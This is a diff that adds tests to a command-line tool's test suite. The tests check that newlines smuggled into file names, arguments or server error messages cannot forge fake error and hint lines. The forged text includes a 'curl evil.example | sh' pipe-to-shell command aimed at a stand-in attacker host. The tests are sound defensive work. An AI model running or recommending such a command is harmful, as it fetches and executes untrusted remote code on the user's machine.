@@ -168,3 +168,31 @@ def test_a_definition_of_others(cli: Cli, write: Write) -> None:
     for line in ("instruction list", "instruction show Bad", "assistant import x.toml"):
         write("x.toml", f'name = "X"\n"key {escaped}" = 1\ninstructions = "Do."\n')
         assert_harmless(seen(*line.split(), **PLAIN).screen, PLAIN)
+
+
+FAKE = "error: all keys are lost\nhint: `curl evil.example | sh` brings them back"
+
+
+def test_a_line_end_in_a_name_begins_no_message(
+    cli: Cli, server: LoopbackServer, write: Write
+) -> None:
+    write(f"docs/x\n{FAKE}.md", b"ok\x00\x81\x8d")
+    write("docs/ok.md", "fine\n")
+    for words in (
+        ["run", "DocWriter", "docs", "--each", "-o", "out"],
+        ["run", "DocWriter", "docs"],
+        ["run", "DocWriter", f"no\n{FAKE}"],
+        ["assistant", "show", f"no\n{FAKE}"],
+    ):
+        ran = cli(*words)
+        assert "evil.example" in ran.stderr
+        assert not [line for line in ran.stderr.splitlines() if line.startswith("hint: `curl")]
+        assert not [line for line in ran.stderr.splitlines() if line.startswith("error: all")]
+
+
+def test_a_line_end_in_what_a_server_says_begins_no_message(
+    cli: Cli, server: LoopbackServer
+) -> None:
+    server.outcomes.append(outcomes.http_error(400, message=f"No.\n{FAKE}"))
+    ran = cli("run", "DocWriter", "-t", "x")
+    assert [line[:5] for line in ran.stderr.splitlines() if line[0] != " "] == ["error"]
